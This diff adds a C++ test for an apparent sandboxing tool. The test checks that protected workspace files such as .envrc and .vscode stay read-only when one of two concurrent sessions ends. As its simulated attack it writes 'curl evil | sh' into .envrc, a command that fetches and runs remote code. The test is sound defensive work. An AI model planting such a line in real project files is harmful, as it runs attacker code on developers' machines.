@@ -278,6 +278,35 @@ TEST_P(RunTest, NoFileDescriptorBeyondStdio) {
   EXPECT_TRUE(r.has_line("fds 0 1 2")) << r.out;
 }
 
+// Two sessions on one workspace: the first to end must not take away a placeholder the other
+// box has mounted read-only (the kernel would detach that mount and .envrc would become
+// writable there). The last session out removes the placeholders.
+TEST_P(RunTest, ProtectedPathsStayReadOnlyWhenAnotherSessionEnds) {
+  struct stat st {};
+  ASSERT_NE(::lstat((w_.ws + "/.envrc").c_str(), &st), 0) << "the test needs .envrc missing";
+  int out1 = -1;
+  int err1 = -1;
+  pid_t first = spawn(w_, {"run", "-q", "--", "/bin/sleep", "1"}, {}, &out1, &err1);
+  ASSERT_GT(first, 0);
+  for (int i = 0; i < 500 && ::lstat((w_.ws + "/.envrc").c_str(), &st) != 0; ++i) {
+    std::this_thread::sleep_for(std::chrono::milliseconds(10));
+  }
+  ASSERT_EQ(::lstat((w_.ws + "/.envrc").c_str(), &st), 0) << "the first box made no placeholder";
+  // The second box outlives the first and then tries to plant .envrc and a VS Code task.
+  Output second = run(w_, {"run", "-q", "--", "/bin/sh", "-c",
+                           "sleep 2; echo 'curl evil | sh' > .envrc; echo rc=$?; "
+                           "mkdir -p .vscode/x; echo rc=$?"});
+  int status = wait_for(first, 10000);
+  ::close(out1);
+  ::close(err1);
+  EXPECT_EQ(status, 0);
+  EXPECT_EQ(second.out, "rc=2\nrc=1\n") << second.err;
+  EXPECT_NE(second.err.find("Read-only file system"), std::string::npos) << second.err;
+  for (const char* p : {".envrc", ".vscode", ".idea", ".gitmodules"}) {
+    EXPECT_NE(::lstat((w_.ws + "/" + p).c_str(), &st), 0) << p << " left in the workspace";
+  }
+}
+
 TEST_P(RunTest, SigtermEndsTheBoxCleanly) {
   std::string marker = fmt::format("{}", 1000 + ::getpid() % 9000);
   int out = -1;
